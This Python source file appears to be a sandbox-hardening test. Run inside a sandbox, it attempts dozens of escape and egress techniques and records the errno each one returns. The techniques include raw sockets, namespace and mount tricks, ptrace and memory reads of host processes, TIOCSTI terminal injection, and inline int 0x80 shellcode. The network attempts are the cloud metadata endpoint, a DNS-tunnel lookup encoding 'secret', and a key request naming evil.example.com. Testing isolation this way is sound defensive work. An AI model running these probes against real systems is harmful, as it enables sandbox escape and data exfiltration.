# SPDX-License-Identifier: GPL-2.0-or-later
"""What somebody tries who is in a sandbox and wants to be out of it.

Run inside, as a program: each attempt in a process of its own, so that none
spoils the next.  Prints one JSON object: attempt, and what came of it: the word
`done`, the name of an errno, or what the attempt itself says.
"""

import ctypes
import errno
import fcntl
import json
import mmap
import os
import socket
import struct
import subprocess
import sys
import time

HERE = {}  # what there is outside: argv[1]
WEB4, WEB6 = "203.0.113.80", "2001:db8:f::80"

CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET = 0x20000, 0x10000000, 0x40000000
SYS = {
    "x86_64": {"clone": 56, "clone3": 435, "unshare": 272, "setns": 308,
               "io_uring": 425, "keyctl": 250, "request_key": 249, "ptrace": 101,
               "process_vm_readv": 310, "bpf": 321, "mount": 165, "umount2": 166,
               "chroot": 161, "open_by_handle_at": 304, "perf_event_open": 298,
               "pidfd_open": 434, "pidfd_getfd": 438, "fsopen": 430, "open_tree": 428},
    "aarch64": {"clone": 220, "clone3": 435, "unshare": 97, "setns": 268,
                "io_uring": 425, "keyctl": 219, "request_key": 218, "ptrace": 117,
                "process_vm_readv": 270, "bpf": 280, "mount": 40, "umount2": 39,
                "chroot": 51, "open_by_handle_at": 265, "perf_event_open": 241,
                "pidfd_open": 434, "pidfd_getfd": 438, "fsopen": 430, "open_tree": 428},
}[os.uname().machine]  # fmt: skip
TIOCSTI, TIOCLINUX, SIOCGSKNS = 0x5412, 0x541C, 0x894C
AF_TIPC, IPPROTO_MPTCP = 30, 262
libc = ctypes.CDLL(None, use_errno=True)
ATTEMPTS = {}


def attempt(call):
    ATTEMPTS[call.__name__] = call
    return call


def kernel(name: str, *args) -> int:
    wide = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    found = libc.syscall(ctypes.c_long(SYS[name]), *wide)
    if found < 0:
        raise OSError(ctypes.get_errno(), name)
    return found


# Sockets of other kinds.


@attempt
def raw_ip():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


@attempt
def raw_icmp():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)


@attempt
def ping_socket():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)


@attempt
def packets():
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)


@attempt
def vsock():
    socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)


@attempt
def sctp():
    socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132)


@attempt
def sctp_messages():
    socket.socket(socket.AF_INET, socket.SOCK_SEQPACKET, 132)


@attempt
def dccp():
    socket.socket(socket.AF_INET, 6, 33)


@attempt
def udp_lite():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)


@attempt
def ciphers_of_the_kernel():
    socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET)


@attempt
def family_in_the_upper_half():
    """The kernel takes the lower 32 bits of it, and so must the filter."""
    libc.socket.argtypes = [ctypes.c_uint64, ctypes.c_uint64, ctypes.c_uint64]
    if libc.socket((1 << 32) | socket.AF_PACKET, socket.SOCK_RAW, 0) < 0:
        raise OSError(ctypes.get_errno(), "socket")


@attempt
def unix_of_a_path():
    socket.socket(socket.AF_UNIX).connect(HERE["unix"])


@attempt
def unix_of_no_path():
    socket.socket(socket.AF_UNIX).connect("\0" + HERE["abstract"])


@attempt
def unix_datagram_of_a_pair():
    one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    one.sendto(b"out", HERE["unix_datagrams"])


@attempt
def unix_raw_of_a_pair():
    """Datagrams, by another name."""
    one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_RAW)
    one.sendto(b"out", HERE["unix_datagrams"])


@attempt
def a_pair_of_another_family():
    socket.socketpair(AF_TIPC, socket.SOCK_STREAM)


@attempt
def tipc():
    socket.socket(AF_TIPC, socket.SOCK_RDM)


@attempt
def unix_stream_of_a_pair_elsewhere():
    one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    one.connect(HERE["unix"])


@attempt
def nftables():
    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)


@attempt
def io_uring():
    kernel("io_uring", 8, ctypes.create_string_buffer(120))


# Namespaces.


@attempt
def another_user_namespace():
    kernel("unshare", CLONE_NEWUSER)


@attempt
def another_network():
    kernel("unshare", CLONE_NEWUSER | CLONE_NEWNET)


@attempt
def a_child_in_another_network():
    kernel("clone", CLONE_NEWUSER | CLONE_NEWNET | 17, 0, 0, 0, 0)


@attempt
def a_child_by_clone3():
    kernel("clone3", struct.pack("<8Q", CLONE_NEWUSER, 0, 0, 0, 17, 0, 0, 0), 64)


@attempt
def the_keeper_s_network():
    os.open("/proc/1/ns/net", os.O_RDONLY)


@attempt
def a_network_with_a_name():
    kernel("setns", os.open(HERE["netns"], os.O_RDONLY), CLONE_NEWNET)


@attempt
def the_network_of_a_socket():
    with socket.socket() as one:
        fcntl.ioctl(one, SIOCGSKNS)


@attempt
def another_mount():
    kernel("mount", b"none", b"/mnt", b"tmpfs", 0, 0)


@attempt
def another_mount_by_the_new_calls():
    kernel("fsopen", b"proc", 0)


@attempt
def a_copy_of_a_mount():
    kernel("open_tree", -100, b"/proc", 1)  # OPEN_TREE_CLONE


@attempt
def what_lies_below_proc():
    kernel("umount2", b"/proc", 2)


@attempt
def another_root():
    kernel("chroot", b"/tmp")


@attempt
def a_file_by_its_handle():
    handle = struct.pack("=Ii8s", 8, 1, b"\1")
    kernel("open_by_handle_at", os.open("/", os.O_RDONLY), handle, 0)


# Calls of another machine's numbers.


@attempt
def calls_of_x32():
    """Who makes them is ended; elsewhere there are none."""
    if os.uname().machine == "x86_64":
        libc.syscall(ctypes.c_long(0x40000000 | 41), socket.AF_PACKET, 3, 0)
        return "it goes on"
    os._exit(0)


@attempt
def calls_of_32_bits():
    if os.uname().machine != "x86_64":
        os._exit(0)
    # mov eax, 359; mov ebx, 17; mov ecx, 3; xor edx, edx; int 0x80; ret
    code = bytes.fromhex("b867010000bb11000000b90300000031d2cd80c3")
    room = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    room.write(code)
    at = ctypes.addressof(ctypes.c_char.from_buffer(room))
    return f"it goes on with {ctypes.CFUNCTYPE(ctypes.c_int)(at)()}"


# Other processes.


@attempt
def a_signal_to_the_proxy():
    os.kill(HERE["host_pid"], 9)


@attempt
def the_host_s_processes_in_proc():
    os.stat(f"/proc/{HERE['host_pid']}")


@attempt
def ptrace_of_the_host():
    kernel("ptrace", 0x4206, HERE["host_pid"], 0, 0)  # PTRACE_SEIZE


@attempt
def memory_of_the_host():
    room = ctypes.create_string_buffer(8)
    mine = ctypes.create_string_buffer(struct.pack("PN", ctypes.addressof(room), 8))
    its = ctypes.create_string_buffer(struct.pack("PN", 0x1000, 8))
    kernel("process_vm_readv", HERE["host_pid"], mine, 1, its, 1, 0)


@attempt
def memory_of_the_keeper():
    os.open("/proc/1/mem", os.O_RDWR)


@attempt
def ptrace_of_the_keeper():
    kernel("ptrace", 0x4206, 1, 0, 0)


@attempt
def descriptors_of_the_keeper():
    for number in os.listdir("/proc/1/fd"):
        os.open(f"/proc/1/fd/{number}", os.O_RDWR)


@attempt
def a_descriptor_by_a_process_descriptor():
    kernel("pidfd_getfd", kernel("pidfd_open", 1, 0), 3, 0)


@attempt
def a_descriptor_that_was_open():
    os.fstat(HERE["descriptor"])


@attempt
def words_for_the_terminal():
    master, slave = os.openpty()
    fcntl.ioctl(slave, TIOCSTI, b"x")


@attempt
def words_for_the_console():
    master, slave = os.openpty()
    fcntl.ioctl(slave, TIOCLINUX, b"\2")


@attempt
def what_the_kernel_counts():
    kernel("perf_event_open", ctypes.create_string_buffer(120), 0, -1, -1, 0)


@attempt
def a_key_that_the_host_resolves():
    kernel("request_key", b"dns_resolver", b"evil.example.com", b"", 0)


@attempt
def programs_for_the_kernel():
    kernel("bpf", 0, ctypes.create_string_buffer(120), 120)


@attempt
def a_program_of_root():
    done = subprocess.run([HERE["setuid"], "-u"], capture_output=True, text=True)
    return "uid " + done.stdout.strip()


# Its network.


def netlink(kind: int, body: bytes) -> None:
    """One request to rtnetlink; OSError with what the kernel says to it."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as route:
        route.send(struct.pack("=IHHII", 16 + len(body), kind, 0x605, 1, 0) + body)
        answer = route.recv(4096)
    (error,) = struct.unpack_from("=i", answer, 16)
    if error:
        raise OSError(-error, "netlink")


@attempt
def take_the_interface_down():
    netlink(16, struct.pack("=BxHiII", 0, 0, 1, 0, 1))


@attempt
def give_it_an_address():
    body = struct.pack("=BBBBI", 2, 24, 0, 0, 1) + struct.pack("=HH4s", 8, 2, b"\n\0\0\4")
    netlink(20, body)


@attempt
def another_route():
    netlink(24, struct.pack("=8BI", 2, 0, 0, 0, 254, 4, 0, 1, 0))


@attempt
def a_tunnel_device():
    device = os.open("/dev/net/tun", os.O_RDWR)
    fcntl.ioctl(device, 0x400454CA, struct.pack("16sH22x", b"tun0", 0x1001))


def timed(call):
    """The errno, and that it came at once."""
    began = time.monotonic()
    try:
        call()
    except OSError as error:
        late = "" if time.monotonic() - began < 1 else " late"
        return errno.errorcode.get(error.errno, repr(error)) + late
    return "done"


def send_udp(family, address, port):
    def send():
        with socket.socket(family, socket.SOCK_DGRAM) as out:
            out.settimeout(3)
            out.connect((address, port))
            out.send(b"out")
            out.recv(1)

    return timed(send)


@attempt
def udp():
    return send_udp(socket.AF_INET, WEB4, 443)


@attempt
def udp_over_ipv6():
    return send_udp(socket.AF_INET6, WEB6, 443)


def judge(answer: bytes) -> None:
    if b" 403 " in answer:
        raise OSError(errno.EACCES, "refused")
    if not answer:
        raise OSError(errno.ECONNRESET, "ended")


def tcp(family, address, port, source=None):
    def ask():
        with socket.socket(family, socket.SOCK_STREAM) as out:
            out.settimeout(5)
            if source:
                out.bind((source, 0))
            out.connect((address, port))
            out.send(b"GET / HTTP/1.0\r\n\r\n")
            judge(out.recv(100))

    return timed(ask)


@attempt
def an_address_of_ipv4():
    return tcp(socket.AF_INET, WEB4, 80)


@attempt
def an_address_of_ipv6():
    return tcp(socket.AF_INET6, WEB6, 80)


@attempt
def an_address_of_ipv4_in_ipv6():
    return tcp(socket.AF_INET6, "::ffff:" + WEB4, 80)


@attempt
def by_several_paths():
    """MPTCP"""

    def ask():
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM, IPPROTO_MPTCP) as out:
            out.settimeout(5)
            out.connect((WEB4, 80))
            out.send(b"GET / HTTP/1.0\r\n\r\n")
            judge(out.recv(100))

    return timed(ask)


@attempt
def a_route_of_its_own():
    """A loose source route, by the host."""

    def ask():
        with socket.socket() as out:
            out.settimeout(5)
            route = b"\x83\x07\x04" + socket.inet_aton(HERE["own"]) + b"\0"
            out.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, route)
            out.connect((WEB4, 80))
            out.send(b"GET / HTTP/1.0\r\n\r\n")
            judge(out.recv(100))

    return timed(ask)


@attempt
def a_mark_for_the_routes():
    with socket.socket() as out:
        out.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, 1)


@attempt
def the_words_of_a_cloud():
    """Where machines that are rented find their secrets."""
    return tcp(socket.AF_INET, "169.254.169.254", 80)


@attempt
def no_address():
    return tcp(socket.AF_INET, "0.0.0.0", HERE["loopback"])


@attempt
def another_source():
    """The policy lets somebody else do what it likes: all addresses are local."""
    return tcp(socket.AF_INET, WEB4, 80, source="10.0.0.4")


@attempt
def the_proxy_s_own_listener():
    return tcp(socket.AF_INET, "127.0.0.1", 26472)


@attempt
def loopback_of_the_host():
    return tcp(socket.AF_INET, "127.0.0.1", HERE["loopback"])


@attempt
def the_host_by_its_address():
    return tcp(socket.AF_INET, HERE["own"], HERE["loopback"])


@attempt
def an_alias_of_nobody():
    return tcp(socket.AF_INET, "198.18.200.200", 80)


@attempt
def an_alias_behind_all():
    return tcp(socket.AF_INET, "198.19.255.255", 80)


@attempt
def fast_open():
    """Data in the very first packet."""

    def ask():
        with socket.socket() as out:
            out.sendto(b"GET / HTTP/1.0\r\n\r\n", 0x20000000, (WEB4, 80))
            judge(out.recv(100))

    return timed(ask)


@attempt
def words_in_names():
    """What is asked for is the message."""
    try:
        socket.getaddrinfo("c2VjcmV0.tunnel.example.com", 53)
    except socket.gaierror as error:
        return error.strerror
    return "done"


def out_of_this(call) -> str:
    try:
        return call() or "done"
    except OSError as error:
        return errno.errorcode.get(error.errno, repr(error))
    except BaseException as error:
        return repr(error)


def apart(call) -> str:
    """In a child."""
    read, write = os.pipe()
    if os.fork() == 0:
        os.write(write, out_of_this(call).encode())
        os._exit(0)
    os.close(write)
    with open(read) as answer:
        said = answer.read()
    os.wait()
    return said


if __name__ == "__main__":
    HERE |= json.loads(sys.argv[1])
    print(json.dumps({name: apart(call) for name, call in ATTEMPTS.items()}))
